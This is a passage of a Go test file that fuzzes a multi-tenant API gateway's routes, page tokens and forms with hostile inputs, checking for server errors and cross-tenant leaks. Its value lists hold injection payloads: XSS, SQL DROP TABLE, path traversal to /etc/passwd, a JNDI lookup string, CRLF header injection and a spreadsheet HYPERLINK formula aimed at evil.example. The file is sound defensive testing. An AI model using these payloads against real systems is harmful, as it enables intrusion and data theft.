package server_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nastavnik/nastavnik/gateway/internal/api"
	"github.com/nastavnik/nastavnik/gateway/internal/config"
	"github.com/nastavnik/nastavnik/gateway/internal/web"
)

// The fuzz run: every route of the API, read from the OpenAPI document the
// gateway serves, gets requests generated from its schema with hostile values
// — malformed JSON, wrong types, huge numbers and strings, NUL, invalid UTF-8,
// unicode tricks, HTML and SQL — in bodies, query strings and path
// parameters, sent by every role and by nobody, through the real gateway and
// services. No answer may be a 5xx, no answer to a non-operator may carry an
// identifier of another tenant it did not send, a request naming another
// tenant's object must be answered exactly as the same request naming an
// object that does not exist, and no non-operator request may change another
// tenant's rows. The generator's seed is fixed, so a run is repeatable.

const fuzzSeed = 20261130

// fuzzPerRoute and fuzzPerPage are how many requests each role sends to each
// API route and to each page route.
const (
	fuzzPerRoute = 6
	fuzzPerPage  = 4
)

// fuzzConfig gives the fuzzed gateway a minute per request: the run hashes
// many passwords at once (sign-in, password changes), which under the race
// detector on a loaded machine can outlast the usual ten seconds — a timeout,
// not the failure the fuzz looks for.
func fuzzConfig(c *config.Config) { c.RequestTimeout = time.Minute }

// swaggerSchema is the part of an OpenAPI (Swagger 2.0) schema the generator reads.
type swaggerSchema struct {
	Ref                  string                    `json:"$ref"`
	Type                 string                    `json:"type"`
	Format               string                    `json:"format"`
	Enum                 []any                     `json:"enum"`
	Items                *swaggerSchema            `json:"items"`
	Properties           map[string]*swaggerSchema `json:"properties"`
	AdditionalProperties json.RawMessage           `json:"additionalProperties"` // a schema, or a bool
	ReadOnly             bool                      `json:"readOnly"`
}

// mapValues is the schema of a map's values; nil when s is no map.
func (s *swaggerSchema) mapValues() *swaggerSchema {
	var v swaggerSchema
	if len(s.AdditionalProperties) == 0 || json.Unmarshal(s.AdditionalProperties, &v) != nil {
		return nil
	}
	return &v
}

type swaggerParameter struct {
	Name   string         `json:"name"`
	In     string         `json:"in"`
	Type   string         `json:"type"`
	Format string         `json:"format"`
	Enum   []any          `json:"enum"`
	Items  *swaggerSchema `json:"items"`
	Schema *swaggerSchema `json:"schema"`
}

type swaggerDocument struct {
	Paths map[string]map[string]struct {
		OperationID string             `json:"operationId"`
		Parameters  []swaggerParameter `json:"parameters"`
	} `json:"paths"`
	Definitions map[string]*swaggerSchema `json:"definitions"`
}

// apiRoute is one method and path template of the API.
type apiRoute struct {
	method, path string // path as in the document: /v1/items/{itemId}:move
	operation    string
	query        []swaggerParameter
	pathParams   []string
	body         *swaggerSchema // nil: no body
}

func (r apiRoute) String() string { return r.method + " " + r.path }

// handRoutes are the routes the gateway serves beside the generated ones
// (api.HandRoutes; the document lists them too).
var handRoutes = func() map[string]bool {
	m := map[string]bool{}
	for _, h := range api.HandRoutes {
		m[h.Method+" "+h.Path] = true
	}
	return m
}()

// apiRoutes reads the OpenAPI document the gateway serves.
func apiRoutes(t testing.TB, base string) ([]apiRoute, map[string]*swaggerSchema) {
	t.Helper()
	resp, err := http.Get(base + "/openapi.json")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var doc swaggerDocument
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		t.Fatalf("openapi.json: %v", err)
	}
	var out []apiRoute
	for path, ops := range doc.Paths {
		for method, op := range ops {
			r := apiRoute{method: strings.ToUpper(method), path: path, operation: op.OperationID}
			for _, p := range op.Parameters {
				switch p.In {
				case "query":
					r.query = append(r.query, p)
				case "path":
					r.pathParams = append(r.pathParams, p.Name)
				case "body":
					r.body = p.Schema
				}
			}
			out = append(out, r)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].String() < out[j].String() })
	if len(out) < 50 {
		t.Fatalf("the OpenAPI document lists %d routes: is it complete?", len(out))
	}
	return out, doc.Definitions
}

// fuzzIDs are the identifiers the fuzz fills in: the role's own, another
// tenant's and none at all (absent), by the name of the parameter.
type fuzzIDs struct {
	own, foreign map[string][]string
	absent       map[string]string // foreign value → an absent one of its shape
	markers      []string
}

// idKind maps a parameter or field name to the kind of object it names.
func idKind(name string) string {
	n := strings.ToLower(name)
	n = n[strings.LastIndex(n, ".")+1:]
	switch {
	case n == "code" || n == "regioncode" || n == "region" || n == "parent":
		return "region"
	case strings.HasPrefix(n, "municipality"):
		return "municipality"
	case strings.HasPrefix(n, "organisation"):
		return "organisation"
	case strings.HasPrefix(n, "campaign"):
		return "campaign"
	case strings.HasPrefix(n, "item"):
		return "item"
	case strings.HasPrefix(n, "stage") && n != "stagenumber":
		return "stage"
	case strings.HasPrefix(n, "roadmap"):
		return "roadmap"
	case strings.HasPrefix(n, "actor") || strings.HasPrefix(n, "account"):
		return "account"
	case n == "due":
		return "date"
	case n == "version":
		return "version"
	}
	return ""
}

// kindOf names the object of a path parameter by the route's collection.
func kindOf(route, param string) string {
	if k := idKind(param); k != "" && param != "id" && param != "code" {
		return k
	}
	switch {
	case strings.HasPrefix(route, "/v1/forms/"):
		if param == "code" || param == "form.code" {
			return "form"
		}
		return "version"
	case strings.HasPrefix(route, "/v1/regions/"):
		return "region"
	case strings.HasPrefix(route, "/v1/municipalities/"):
		return "municipality"
	case strings.HasPrefix(route, "/v1/organisations/"):
		return "organisation"
	case strings.HasPrefix(route, "/v1/campaigns/"):
		return "campaign"
	case strings.HasPrefix(route, "/v1/reports/"):
		return "report"
	case strings.HasPrefix(route, "/v1/roadmaps/"):
		return "roadmap"
	case strings.HasPrefix(route, "/v1/accounts/"):
		return "account"
	case strings.HasPrefix(route, "/v1/me/tokens/"):
		return "token"
	case strings.HasPrefix(route, "/v1/outbox/"):
		if param == "source" {
			return "source"
		}
		return "outbox_message"
	}
	return idKind(param)
}

func (f *fixture) fuzzIDs(role string) fuzzIDs {
	f.t.Helper()
	ind := f.indicators()
	own, foreign := f.roadmap("organisation", f.a1.GetId()), f.roadmap("organisation", f.foreignOrg(role).GetId())
	var ownToken, foreignToken string
	if role != "" {
		ownToken = newToken(f, f.clients[role])
	}
	other := "curator"
	if role == "curator" {
		other = "methodologist"
	}
	foreignToken = newToken(f, f.clients[other])
	ids := fuzzIDs{
		own: map[string][]string{
			"region": {"24"}, "municipality": {f.munA}, "organisation": {f.a1.GetId(), f.a2.GetId()},
			"campaign": {ind.campA}, "report": {ind.repA1}, "roadmap": {own.id}, "stage": {own.stage}, "item": {own.item},
			"account": {f.accA2}, "token": {ownToken}, "form": {formCode}, "version": {"1"}, "date": {"2022-03-31"},
			"source": {"indicators"}, "outbox_message": {f.pageOutboxMessage()},
		},
		foreign: map[string][]string{
			"region": {"43"}, "municipality": {f.munB}, "organisation": {f.b1.GetId()}, "campaign": {ind.campB},
			"report": {ind.repB1}, "roadmap": {foreign.id}, "stage": {foreign.stage}, "item": {foreign.item},
			"account": {f.accB1, f.methB}, "token": {foreignToken},
		},
		absent:  map[string]string{"43": "88"},
		markers: f.foreignMarkers(role),
	}
	if role == "curator" {
		ids.own["organisation"], ids.own["account"] = []string{f.a1.GetId()}, []string{f.ids["curator"]}
		ids.foreign["organisation"] = append(ids.foreign["organisation"], f.a2.GetId())
		ids.foreign["report"] = append(ids.foreign["report"], ind.repA2)
		ids.foreign["account"] = append(ids.foreign["account"], f.accA2)
	}
	ids.markers = append(ids.markers, ind.campB, ind.repB1, foreign.id, foreign.stage, foreign.item, foreignToken)
	if role == "curator" {
		ids.markers = append(ids.markers, ind.repA2)
	}
	for k, vs := range ids.foreign {
		for i, v := range vs {
			if k != "region" {
				ids.absent[v] = fmt.Sprintf("0b0e4d4e-0000-4000-8000-%012d", 100+i+len(k))
			}
		}
	}
	return ids
}

// hostileJSON are JSON values no field expects. Several are not valid JSON
// text or not UTF-8: the generator writes JSON by hand for them.
var hostileJSON = []string{
	`1e309`, `-1e309`, `9223372036854775808`, `-9223372036854775809`, `18446744073709551616`, `-0`, `0.5`, `1e-400`,
	`2147483648`, `-2147483649`, `"1e309"`, `"9223372036854775808"`, `"-9223372036854775809"`, `"-0"`, `"NaN"`,
	`"Infinity"`, `"-Infinity"`, `"0x1F"`, `" 1"`, `""`, `true`, `false`, `null`, `[]`, `{}`, `[null]`, `{"":null}`,
	`[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]`, `"\u0000"`, `"a\u0000b"`, `"\ud800"`, `"\udfff"`, `"\ud83d x"`, `"\u202eevil"`,
	`"a\u200bb"`, `"\ufeffБОМ"`, `"e\u0301\u0301\u0301\u0301"`, `"\u2028\u2029"`, `"\u0085\u007f\u0001\u001b[31m"`,
	"\"\xff\xfe\"", "\"\xc3\x28\"", "\"\xed\xa0\x80\"", "\"\xf4\x90\x80\x80\"", `"<script>alert(1)</script>"`,
	`"\"><img src=x onerror=alert(1)>"`, `"' OR '1'='1"`, `"'; DROP TABLE organisations; --"`, `"%00"`,
	`"../../etc/passwd"`, `"=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажмите\")"`, `"2026-02-30"`, `"0000-00-00"`,
	`"9999-12-31T23:59:60Z"`, `"-infinity"`, `"10000-01-01T00:00:00Z"`, `"0001-01-01T00:00:00Z"`, `"1970-01-01"`,
	`"ROLE_NOPE"`, `999`, `-1`, `"00000000-0000-0000-0000-000000000000"`, `"FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF"`,
	`"{{.}}"`, `"${jndi:ldap://x}"`, `"\\x00"`, `"😀👩‍👩‍👧"`,
}

// malformedJSON are bodies that are not one JSON object.
var malformedJSON = []string{"", "{", "}", `{"`, "[", "null", `"x"`, "123", "{}{}", "{} x", "\xef\xbb\xbf{}", `{"a":}`,
	"{,}", `{"a" 1}`, "\x00", "\xff\xfe{}", `{"a":1,}`, "[]", "true", `{"version":"1","version":"2"}`,
	strings.Repeat("[", 20000), strings.Repeat(`{"a":`, 5000), "{\"name\":\"\xff\"}", `{"\u0000":1}`}

// hostileQuery are query values, already escaped.
var hostileQuery = []string{"%FF%FE", "%00", "a%00b", "%C3%28", "%ED%A0%80", "9223372036854775808", "-9223372036854775809",
	"1e309", "-1", "0", "NaN", "%E2%80%AEevil", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%27%20OR%201%3D1--", "", "%",
	"%G0", "a&b=c", "2026-02-30", "-0", "true", "LEVEL_NOPE", "%F0%9F%98%80", "e%CC%81%CC%81", "%E2%80%8B", "+",
	"00000000-0000-0000-0000-000000000000", "..%2F..%2Fetc%2Fpasswd", "%2F%2F", "%5B%5D", "eyJmIjoiIiwiYyI6bnVsbH0",
	"AAAA", "!!!!", "%25"}

// hostilePath are path parameter values, already escaped.
var hostilePath = []string{"%FF", "%00", "..", "%2E%2E", "%2F", "'%20OR%201%3D1", "9223372036854775808", "-1", "0",
	"00000000-0000-0000-0000-000000000000", "0B0E4D4E-0000-4000-8000-000000000000", "%E2%80%AE", "x", "%3Cb%3E",
	"2026-02-30", "99999999999999999999", "%20", "a%3Ab", "-0", "1e309"}

// gen generates requests; one seeded source makes a run repeatable.
type gen struct {
	r    *rand.Rand
	defs map[string]*swaggerSchema
	ids  fuzzIDs
}

func (g *gen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }

func (g *gen) resolve(s *swaggerSchema) *swaggerSchema {
	for s != nil && s.Ref != "" {
		s = g.defs[strings.TrimPrefix(s.Ref, "#/definitions/")]
	}
	return s
}

// id returns an identifier of a kind: mostly own, sometimes foreign, now and
// then an absent or hostile one.
func (g *gen) id(kind string) string {
	switch n := g.r.IntN(10); {
	case n < 5 && len(g.ids.own[kind]) > 0:
		return g.pick(g.ids.own[kind])
	case n < 8 && len(g.ids.foreign[kind]) > 0:
		return g.pick(g.ids.foreign[kind])
	case n < 9:
		return "0b0e4d4e-0000-4000-8000-000000000001"
	}
	return ""
}

// hugeString is a long JSON string: about a megabyte now and then.
func (g *gen) hugeString() string {
	switch g.r.IntN(4) {
	case 0:
		return `"` + strings.Repeat("я", 600_000) + `"` // 1.2 MB: over the body limit
	case 1:
		return `"` + strings.Repeat("a", 1_000_000) + `"` // just under it
	case 2:
		return `"` + strings.Repeat("e\u0301", 20_000) + `"`
	}
	return `"` + strings.Repeat("<b>Ш</b>", 5_000) + `"`
}

// hostile returns a hostile JSON value.
func (g *gen) hostile() string {
	if g.r.IntN(40) == 0 {
		return g.hugeString()
	}
	return g.pick(hostileJSON)
}

// value returns a JSON value fitting s (as the field name suggests), or
// with probability p a hostile one.
func (g *gen) value(name string, s *swaggerSchema, depth int, p float64) string {
	if g.r.Float64() < p {
		return g.hostile()
	}
	s = g.resolve(s)
	if s == nil || depth > 6 {
		return "{}"
	}
	str := func(v string) string { b, _ := json.Marshal(v); return string(b) }
	if len(s.Enum) > 0 {
		b, _ := json.Marshal(s.Enum[g.r.IntN(len(s.Enum))])
		return string(b)
	}
	switch s.Type {
	case "string":
		switch s.Format {
		case "int64", "uint64":
			return str(fmt.Sprint(g.r.IntN(5)))
		case "date-time":
			return str("2026-12-15T00:00:00Z")
		case "byte":
			return str(base64.StdEncoding.EncodeToString([]byte(fixtureTSV)))
		}
		if k := idKind(name); k != "" && k != "version" {
			if v := g.id(k); v != "" || k == "region" {
				return str(v)
			}
		}
		if strings.HasSuffix(strings.ToLower(name), "on") || strings.Contains(strings.ToLower(name), "date") ||
			strings.HasPrefix(strings.ToLower(name), "period") || name == "deadline" || name == "asOf" {
			return str(g.pick([]string{"2022-03-31", "2026-12-15", "2021-01-01"}))
		}
		return str(g.pick([]string{"Школа № 1", "скрипт", "Новый", "24", "Ежегодно, не позднее 15 декабря", "Reset-pass-2026"}))
	case "integer":
		return fmt.Sprint(g.pick([]string{"1", "2026", "10", "0"}))
	case "number":
		return "1.5"
	case "boolean":
		return g.pick([]string{"true", "false"})
	case "array":
		n := g.r.IntN(3)
		parts := make([]string, n)
		for i := range parts {
			parts[i] = g.value(name, s.Items, depth+1, p)
		}
		return "[" + strings.Join(parts, ",") + "]"
	}
	if mv := s.mapValues(); mv != nil {
		k := g.pick([]string{"teachers_total", "students_total", "nope", "\u0000", "<b>"})
		return "{" + str(k) + ":" + g.value(k, mv, depth+1, p) + "}"
	}
	keys := make([]string, 0, len(s.Properties))
	for k := range s.Properties {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var parts []string
	for _, k := range keys {
		if g.r.IntN(5) == 0 || s.Properties[k].ReadOnly && g.r.IntN(2) == 0 {
			continue
		}
		parts = append(parts, str(k)+":"+g.value(k, s.Properties[k], depth+1, p))
	}
	if g.r.IntN(10) == 0 {
		parts = append(parts, `"unknownField":1`)
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// body returns a body for s: malformed, wholly hostile, or shaped by the
// schema with some hostile values.
func (g *gen) body(s *swaggerSchema) string {
	switch n := g.r.IntN(10); {
	case n == 0:
		return g.pick(malformedJSON)
	case n == 1:
		v := g.value("", s, 0, 0)
		return v[:g.r.IntN(len(v)+1)] // cut short
	case n == 2:
		return g.hostile()
	case n < 5:
		return g.value("", s, 0, 0.6)
	}
	return g.value("", s, 0, 0.15)
}

// query returns the route's query string with hostile values.
func (g *gen) query(r apiRoute) string {
	var q []string
	for _, p := range r.query {
		if g.r.IntN(3) == 0 {
			continue
		}
		var v string
		switch n := g.r.IntN(10); {
		case n < 4:
			v = g.pick(hostileQuery)
		case n == 4:
			v = strings.Repeat("%D0%AF", 2_000+g.r.IntN(15_000)) // up to 90 KB: past the header limit
		default:
			if k := idKind(p.Name); k != "" && k != "version" {
				v = url.QueryEscape(g.id(k))
			} else if len(p.Enum) > 0 {
				v = fmt.Sprint(p.Enum[g.r.IntN(len(p.Enum))])
			} else if p.Type == "integer" || p.Items != nil && p.Items.Type == "integer" {
				v = g.pick([]string{"1", "500", "501", "2026", "0"})
			} else {
				v = "x"
			}
		}
		q = append(q, url.QueryEscape(p.Name)+"="+v)
		if p.Type == "array" && g.r.IntN(2) == 0 {
			q = append(q, url.QueryEscape(p.Name)+"="+g.pick(hostileQuery))
		}
	}
	if g.r.IntN(8) == 0 {
		q = append(q, g.pick([]string{"unknown=1", "%FF=1", "a%00=1", "pageSize=1&pageSize=2", "=", "&&&"}))
	}
	return strings.Join(q, "&")
}

// path fills the route's parameters.
func (g *gen) path(r apiRoute) string {
	out := r.path
	for _, p := range r.pathParams {
		var v string
		if g.r.IntN(4) == 0 {
			v = g.pick(hostilePath)
		} else {
			k := kindOf(r.path, p)
			v = url.PathEscape(g.id(k))
			if v == "" {
				v = g.pick(g.ids.own[k])
			}
		}
		out = strings.Replace(out, "{"+p+"}", v, 1)
	}
	return out
}

// fuzzRequest is one generated request.
type fuzzRequest struct {
	role, method, url, contentType string
	body                           []byte
	form                           bool // a page form: the session cookie, not the token
}

func (q fuzzRequest) String() string {
	b := string(q.body)
	if len(b) > 300 {
		b = b[:300] + fmt.Sprintf("…(%d bytes)", len(q.body))
	}
	u := q.url
	if len(u) > 300 {
		u = u[:300] + fmt.Sprintf("…(%d bytes)", len(q.url))
	}
	return fmt.Sprintf("%s: %s %s %q", q.role, q.method, u, b)
}

// fuzzStats counts answers by status class.
type fuzzStats struct {
	mu      sync.Mutex
	sent    int
	byClass map[string]int
	byCode  map[int]int
	bad     []string
	// compared counts requests naming another tenant's object that were
	// compared with the same request naming an absent one.
	compared int
}

func (s *fuzzStats) add(status int, problem string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.sent++
	if s.byClass == nil {
		s.byClass, s.byCode = map[string]int{}, map[int]int{}
	}
	s.byClass[fmt.Sprintf("%dxx", status/100)]++
	s.byCode[status]++
	if problem != "" {
		s.bad = append(s.bad, problem)
	}
}

func (s *fuzzStats) report(t *testing.T, what string) {
	t.Helper()
	classes := []string{}
	for c, n := range s.byClass {
		if c != "5xx" {
			classes = append(classes, fmt.Sprintf("%s = %d", c, n))
		}
	}
	sort.Strings(classes)
	codes := []string{}
	for c, n := range s.byCode {
		codes = append(codes, fmt.Sprintf("%d: %d", c, n))
	}
	sort.Strings(codes)
	t.Logf("%s: %d requests sent; %s; 5xx = %d (by status %s)", what, s.sent, strings.Join(classes, ", "),
		s.byClass["5xx"], strings.Join(codes, ", "))
	if s.compared > 0 {
		t.Logf("%d answers about another tenant's objects were compared with those about absent ones", s.compared)
	}
	if len(s.bad) > 0 {
		sort.Strings(s.bad)
		s.bad = slices.Compact(s.bad)
		n := min(len(s.bad), 40)
		t.Errorf("%d problems (first %d):\n%s", len(s.bad), n, strings.Join(s.bad[:n], "\n"))
	}
}

// doRaw sends q and returns the status and body.
func doRaw(t testing.TB, hc *http.Client, base, token, cookie string, q fuzzRequest) (int, string) {
	req, err := http.NewRequest(q.method, base+"/", bytes.NewReader(q.body))
	if err != nil {
		t.Fatal(err)
	}
	// The path and query go out as written, invalid escapes and all.
	req.URL.Opaque, req.URL.RawQuery, _ = strings.Cut(q.url, "?")
	req.Header.Set("Content-Type", q.contentType)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if cookie != "" {
		req.Header.Set("Cookie", cookie)
	}
	resp, err := hc.Do(req)
	if err != nil {
		t.Errorf("%s: %v", q, err)
		return 0, ""
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	return resp.StatusCode, string(b)
}

// containsForeign returns a marker of another tenant that resp carries and
// the request did not.
func containsForeign(markers []string, q fuzzRequest, resp string) string {
	for _, m := range markers {
		if m != "" && strings.Contains(resp, m) && !strings.Contains(q.url, m) && !bytes.Contains(q.body, []byte(m)) {
			return m
		}
	}
	return ""
}

// asAbsent rewrites every foreign identifier in q as an absent one; false
// when q names none.
func asAbsent(ids fuzzIDs, q fuzzRequest) (fuzzRequest, bool) {
	out, changed := q, false
	for k, vs := range ids.foreign {
		for _, v := range vs {
			a := ids.absent[v]
			if k == "region" {
				// Only as a whole path segment or query value: "43" is in many numbers.
				for _, pre := range []string{"/v1/regions/", "region=", "regionCode=", "parent="} {
					for _, end := range []string{"", "&", ":", "/"} {
						if strings.Contains(out.url, pre+v+end) && (end != "" || strings.HasSuffix(out.url, pre+v)) {
							out.url = strings.ReplaceAll(out.url, pre+v+end, pre+a+end)
							changed = true
						}
					}
				}
				if bytes.Contains(out.body, []byte(`"`+v+`"`)) {
					out.body = bytes.ReplaceAll(out.body, []byte(`"`+v+`"`), []byte(`"`+a+`"`))
					changed = true
				}
				continue
			}
			if strings.Contains(out.url, v) || bytes.Contains(out.body, []byte(v)) {
				out.url = strings.ReplaceAll(out.url, v, a)
				out.body = bytes.ReplaceAll(out.body, []byte(v), []byte(a))
				changed = true
			}
		}
	}
	return out, changed
}

// answerShape is what an answer says about existence: the status and the
// error code.
func answerShape(status int, body string) string {
	var e struct {
		Code string `json:"code"`
	}
	_ = json.Unmarshal([]byte(body), &e)
	return fmt.Sprintf("%d %s", status, e.Code)
}

// TestFuzzAPIThroughTheGateway fuzzes every API route as every role.
func TestFuzzAPIThroughTheGateway(t *testing.T) {
	t.Parallel()
	f := newFixture(t, fuzzConfig)
	routes, defs := apiRoutes(t, f.p.base)
	hc := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	stats := &fuzzStats{}
	// Non-operators first, each checked for the foreign rows it must not
	// change; the operator last, since its requests may change anything.
	for _, role := range []string{"", "curator", "methodologist", "regional", "operator"} {
		name := role
		if name == "" {
			name = "anonymous"
		}
		ids := f.fuzzIDs(role)
		g := &gen{r: rand.New(rand.NewPCG(fuzzSeed, uint64(len(role)))), defs: defs, ids: ids}
		var reqs []fuzzRequest
		for _, r := range routes {
			for range fuzzPerRoute {
				q := fuzzRequest{role: name, method: r.method, url: g.path(r), contentType: "application/json"}
				if qs := g.query(r); qs != "" {
					q.url += "?" + qs
				}
				if r.body != nil || g.r.IntN(6) == 0 {
					q.body = []byte(g.body(r.body))
				}
				if g.r.IntN(15) == 0 {
					q.contentType = g.pick([]string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json; charset=latin1", ""})
				}
				reqs = append(reqs, q)
			}
		}
		checkState := role != "" && role != "operator"
		stateRole := role
		if role == "regional" || role == "methodologist" {
			stateRole = "regional" // region 43 alone: A2 is theirs to change
		}
		var before string
		if checkState {
			before = f.foreignState(stateRole)
		}
		token := ""
		if role != "" {
			token = f.clients[role].token
		}
		work := make(chan fuzzRequest)
		var wg sync.WaitGroup
		for range 4 {
			wg.Go(func() {
				for q := range work {
					status, body := doRaw(t, hc, f.p.base, token, "", q)
					if status == 0 {
						continue
					}
					problem := ""
					switch {
					case status >= 500:
						problem = fmt.Sprintf("%d for %s → %.300s", status, q, body)
					case role != "operator" && role != "":
						if m := containsForeign(ids.markers, q, body); m != "" {
							problem = fmt.Sprintf("leak of %q: %s → %.300s", m, q, body)
						} else if aq, ok := asAbsent(ids, q); ok {
							s2, b2 := doRaw(t, hc, f.p.base, token, "", aq)
							stats.add(s2, "")
							stats.mu.Lock()
							stats.compared++
							stats.mu.Unlock()
							if s2 >= 500 {
								problem = fmt.Sprintf("%d for %s → %.300s", s2, aq, b2)
							} else if status == http.StatusRequestHeaderFieldsTooLarge || s2 == http.StatusRequestHeaderFieldsTooLarge {
								// net/http's header limit, met before any
								// lookup: on a reused connection it counts
								// from after up to 4 KB read ahead, so a
								// request near it may pass once and not twice.
							} else if got, want := answerShape(status, body), answerShape(s2, b2); got != want {
								problem = fmt.Sprintf("another tenant's object answered %s, an absent one %s: %s", got, want, q)
							}
						}
					}
					stats.add(status, problem)
				}
			})
		}
		for _, q := range reqs {
			work <- q
		}
		close(work)
		wg.Wait()
		if checkState {
			if after := f.foreignState(stateRole); after != before {
				t.Errorf("%s: the fuzz changed rows of another tenant", name)
			}
		}
	}
	f.fuzzPageTokens(t, hc, routes, stats)
	f.fuzzEveryQueryParameter(t, hc, routes, stats)
	stats.report(t, fmt.Sprintf("API fuzz over %d routes", len(routes)))
	if stats.compared < 100 {
		t.Errorf("only %d requests named another tenant's object: the generator lost its ids", stats.compared)
	}
}

// fuzzEveryQueryParameter sends each documented query parameter of every
// GET route, alone, with each of a few hostile values, as the operator and
// as the curator: the random pass may miss one, this one does not.
func (f *fixture) fuzzEveryQueryParameter(t *testing.T, hc *http.Client, routes []apiRoute, stats *fuzzStats) {
	params := 0
	for _, r := range routes {
		if r.method != "GET" {
			continue
		}
		path := r.path
		for _, p := range r.pathParams {
			path = strings.Replace(path, "{"+p+"}", "0b0e4d4e-0000-4000-8000-000000000004", 1)
		}
		for _, p := range r.query {
			params++
			for _, v := range []string{"%FF%FE", "a%00b", "9223372036854775808", "%27%3B--%E2%80%AE"} {
				for _, role := range []string{"operator", "curator"} {
					q := fuzzRequest{role: role, method: "GET", url: path + "?" + url.QueryEscape(p.Name) + "=" + v}
					status, body := doRaw(t, hc, f.p.base, f.clients[role].token, "", q)
					problem := ""
					if status >= 500 {
						problem = fmt.Sprintf("%d for %s → %.300s", status, q, body)
					}
					stats.add(status, problem)
				}
			}
		}
	}
	t.Logf("every one of %d query parameters sent alone with hostile values", params)
}

// hostileCursor are values put into a page token's cursor in place of its own.
var hostileCursor = []any{"\u0000", "a\u0000b", "\xff", "' OR 1=1 --", strings.Repeat("я", 10_000), "", -1, 1e308,
	json.Number("9223372036854775808"), json.Number("-9223372036854775809"), json.Number("2147483648"), nil, true, []any{}, map[string]any{},
	"9999-12-31T23:59:59Z", "0b0e4d4e-0000-4000-8000-000000000001", "not-a-uuid"}

// tamper replaces, one at a time, every value of a cursor with hostile ones.
func tamper(v any, emit func(any)) {
	switch x := v.(type) {
	case map[string]any:
		for k, old := range x {
			tamper(old, func(nv any) {
				x[k] = nv
				emit(x)
				x[k] = old
			})
		}
	case []any:
		for i, old := range x {
			tamper(old, func(nv any) {
				x[i] = nv
				emit(x)
				x[i] = old
			})
		}
	default:
		for _, h := range hostileCursor {
			emit(h)
		}
	}
}

// fuzzPageTokens takes a real page token of every list route, bound to its
// filters, and sends it back with its cursor's values replaced by hostile
// ones (a token is opaque, but only base64 and JSON), as every role.
func (f *fixture) fuzzPageTokens(t *testing.T, hc *http.Client, routes []apiRoute, stats *fuzzStats) {
	tokens := 0
	for _, r := range routes {
		if r.method != "GET" || !slices.ContainsFunc(r.query, func(p swaggerParameter) bool { return p.Name == "pageToken" }) ||
			strings.Contains(r.path, "{") {
			continue
		}
		var page struct {
			Next string `json:"nextPageToken"`
		}
		if code := f.clients["operator"].do("GET", r.path+"?pageSize=1", nil, &page); code != 200 || page.Next == "" {
			continue // one page only: no token to tamper with
		}
		tokens++
		raw, err := base64.RawURLEncoding.DecodeString(page.Next)
		if err != nil {
			t.Fatalf("%s: token %q: %v", r, page.Next, err)
		}
		var env map[string]any
		d := json.NewDecoder(bytes.NewReader(raw))
		d.UseNumber()
		if err := d.Decode(&env); err != nil {
			t.Fatalf("%s: token %s: %v", r, raw, err)
		}
		cursor := env["c"]
		tamper(cursor, func(c any) {
			env["c"] = c
			b, _ := json.Marshal(env)
			// json.Marshal writes "\u0000" as is: the escapes above become the characters.
			b = bytes.ReplaceAll(b, []byte(`\\u0000`), []byte(`\u0000`))
			b = bytes.ReplaceAll(b, []byte(`\\xff`), []byte("\xff"))
			for _, role := range []string{"operator", "curator"} {
				q := fuzzRequest{role: role, method: "GET", url: r.path + "?pageSize=1&pageToken=" + base64.RawURLEncoding.EncodeToString(b)}
				status, body := doRaw(t, hc, f.p.base, f.clients[role].token, "", q)
				problem := ""
				if status >= 500 {
					problem = fmt.Sprintf("%d for a page token %s: %s → %.300s", status, b, q, body)
				}
				stats.add(status, problem)
			}
		})
	}
	if tokens < 3 {
		t.Errorf("only %d list routes gave a page token to tamper with", tokens)
	}
	t.Logf("tampered with the page tokens of %d list routes", tokens)
}

// pageFormFields are the names of the pages' form fields, read from the
// templates, with the report form's fields.
func pageFormFields(t testing.TB, f *fixture) []string {
	t.Helper()
	files, err := filepath.Glob("../web/templates/*.html")
	if err != nil || len(files) == 0 {
		t.Fatalf("templates: %v", err)
	}
	re := regexp.MustCompile(`name="([a-z_A-Z]+)"`)
	seen := map[string]bool{}
	for _, file := range files {
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range re.FindAllSubmatch(b, -1) {
			seen[string(m[1])] = true
		}
	}
	for code := range f.indicators().values {
		seen["f_"+code] = true
	}
	delete(seen, "csrf_token")
	delete(seen, "viewport")
	out := make([]string, 0, len(seen))
	for k := range seen {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// hostileForm are form values.
var hostileForm = []string{"", " ", "\x00", "a\x00b", "\xff\xfe", "\xed\xa0\x80", "\u202eevil", "a\u200bb", "\ufeff",
	"e\u0301\u0301\u0301", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR '1'='1", "'; DROP TABLE x; --",
	"9223372036854775808", "-9223372036854775809", "1e309", "-1", "-0", "NaN", "0x10", "2026-02-30", "31.02.2026",
	"99.99.9999", "0", "1", "да", "on", "yes", "00000000-0000-0000-0000-000000000000", "../../etc/passwd",
	"=HYPERLINK(\"http://evil.example/\",\"x\")", "{{.}}", "😀", "\r\n\r\nX-Injected: 1", "%00", "1 000 000", "10\u00a0000"}

// pageValue is an identifier of a kind for a page path, own or foreign or hostile.
func (g *gen) pageValue(kind string) string {
	if g.r.IntN(4) == 0 {
		return g.pick(hostilePath)
	}
	return url.PathEscape(g.id(kind))
}

// pageParamKind names the kind of object a page path parameter names by the
// segment before it.
func pageParamKind(before string) string {
	return map[string]string{"reports": "report", "campaigns": "campaign", "roadmap": "roadmap", "review": "report",
		"region": "region", "municipalities": "municipality", "registry": "organisation", "accounts": "account",
